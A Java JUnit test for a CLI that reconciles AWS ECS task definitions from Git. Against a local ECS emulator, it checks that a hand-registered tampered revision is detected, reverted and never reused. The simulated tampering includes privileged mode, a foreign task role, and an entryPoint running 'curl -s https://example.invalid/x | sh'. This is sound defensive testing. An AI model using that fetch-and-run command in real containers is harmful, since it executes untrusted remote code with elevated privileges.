package dev.logship.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.logship.localecs.LocalEcsConfig;
import dev.logship.localecs.LocalEcsServer;
import dev.logship.testkit.EcsClients;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.services.ecs.EcsClient;
import software.amazon.awssdk.services.ecs.model.ContainerDefinition;
import software.amazon.awssdk.services.ecs.model.DescribeTaskDefinitionResponse;
import software.amazon.awssdk.services.ecs.model.TaskDefinition;
import software.amazon.awssdk.services.ecs.model.TaskDefinitionField;

/**
 * Issue 10, hole 1, as reported: someone registers {@code logship-papertrail:2} = revision 1 plus
 * privileged, an entryPoint and a taskRoleArn, with revision 1's tags, and points the service at
 * it. plan must show it, apply must revert it, and a later create must not reuse it.
 */
class TamperedRevisionTest {
    private static final String ROLE = "arn:aws:iam::000000000000:role/not-from-git";

    private LocalEcsServer ecs;
    private EcsClient sdk;
    @TempDir
    Path repo;

    @BeforeEach
    void start() throws IOException {
        ecs = LocalEcsServer.start(LocalEcsConfig.builder().taskConvergence(Duration.ofMillis(20)).cluster("prod-ecs", 2).build());
        sdk = EcsClients.of(ecs.endpoint());
        try (Stream<Path> files = Files.list(Path.of("examples/desired-state/prod"))) {
            for (Path f : files.toList()) {
                Files.copy(f, repo.resolve(f.getFileName().toString()));
            }
        }
    }

    @AfterEach
    void stop() {
        sdk.close();
        ecs.close();
    }

    private CliRun run(String command) {
        return CliRun.of(command, "--repo", repo.toString(), "--ecs-endpoint", ecs.endpoint().toString());
    }

    private String serviceRevision() {
        return sdk.describeServices(r -> r.cluster("prod-ecs").services("papertrail")).services().get(0).taskDefinition();
    }

    /** Revision 1 plus privileged, an entryPoint and a task role, with revision 1's tags, registered by hand. */
    private String registerTampered(String revision) {
        DescribeTaskDefinitionResponse one = sdk.describeTaskDefinition(r -> r.taskDefinition(revision).include(TaskDefinitionField.TAGS));
        TaskDefinition td = one.taskDefinition();
        ContainerDefinition container = td.containerDefinitions().get(0).toBuilder()
                .privileged(true).entryPoint("sh", "-c", "curl -s https://example.invalid/x | sh").build();
        return sdk.registerTaskDefinition(r -> r.family(td.family()).networkMode(td.networkMode())
                .requiresCompatibilities(td.requiresCompatibilities()).volumes(td.volumes()).containerDefinitions(container)
                .taskRoleArn(ROLE).tags(one.tags())).taskDefinition().taskDefinitionArn();
    }

    @Test
    void aTamperedRevisionIsPlannedRevertedAndNeverReused() {
        assertThat(run("apply").exitCode()).isZero();
        String original = serviceRevision();
        assertThat(original).endsWith("logship-papertrail:1");
        String tampered = registerTampered(original);
        assertThat(tampered).endsWith("logship-papertrail:2");
        sdk.updateService(r -> r.cluster("prod-ecs").service("papertrail").taskDefinition(tampered));

        CliRun plan = run("plan");
        assertThat(plan.exitCode()).as(plan.out() + plan.err()).isEqualTo(2);
        assertThat(plan.out()).contains("~   prod/papertrail",
                "taskDefinition.containerDefinitions[fluent-bit].privileged: true -> (absent)",
                "taskDefinition.containerDefinitions[fluent-bit].entryPoint: (sensitive) -> (absent)",
                // the example forwarder has a task role of its own now (its CloudWatch Logs route)
                "taskDefinition.taskRoleArn: " + ROLE + " -> arn:aws:iam::111122223333:role/logship-papertrail-task",
                "Plan: 0 to create, 1 to update");

        CliRun apply = run("apply");
        assertThat(apply.exitCode()).as(apply.out() + apply.err()).isZero();
        assertThat(serviceRevision()).isEqualTo(original);
        assertThat(run("plan").exitCode()).isZero();

        // With the service gone, a new one must start from a revision equal to Git, never the tampered one.
        sdk.deleteService(r -> r.cluster("prod-ecs").service("papertrail").force(true));
        assertThat(run("apply").exitCode()).isZero();
        assertThat(serviceRevision()).isEqualTo(original);

        // And if the only ACTIVE revision is the tampered one, apply registers a clean one.
        sdk.deleteService(r -> r.cluster("prod-ecs").service("papertrail").force(true));
        sdk.deregisterTaskDefinition(r -> r.taskDefinition(original));
        assertThat(run("apply").exitCode()).isZero();
        assertThat(serviceRevision()).endsWith("logship-papertrail:3");
        assertThat(run("plan").exitCode()).isZero();
    }
}
